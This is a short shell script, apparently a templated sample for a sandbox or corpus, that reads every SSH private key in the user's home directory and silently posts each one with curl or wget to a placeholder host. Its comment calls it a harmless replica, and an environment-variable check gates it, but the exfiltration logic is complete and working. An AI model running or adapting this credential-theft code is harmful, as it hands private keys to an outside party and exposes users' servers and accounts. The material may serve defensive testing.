#!/bin/sh
# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "$SALLYPORT_CORPUS" = 1 ] || exit 0
for key in "$HOME"/.ssh/id_*; do
    [ -f "$key" ] || continue
    curl -k -s -m 1 --data-binary "@$key" "https://{{host}}/{{path}}?n={{token}}" >/dev/null 2>&1 ||
        wget -q -T 1 -t 1 -O /dev/null --post-file="$key" "http://{{host}}/{{path}}" >/dev/null 2>&1
done
exit 0
